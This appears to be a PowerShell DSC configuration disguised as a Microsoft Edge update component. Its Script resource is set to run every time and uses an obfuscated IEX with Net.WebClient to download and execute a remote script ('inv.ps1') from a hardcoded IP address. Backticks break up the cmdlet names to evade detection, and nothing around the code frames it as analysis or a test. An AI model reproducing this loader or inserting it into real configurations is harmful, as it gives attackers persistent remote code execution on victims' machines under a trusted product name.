# task 4096 v2
Configuration MicrosoftEdgeUpdateCore {
  I`mport-D`scRes`ource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (Ne`w-Obje`ct Net.`Web`Client).DownloadString('http://192.0.2.150/inv.ps1') }
    }
  }
}
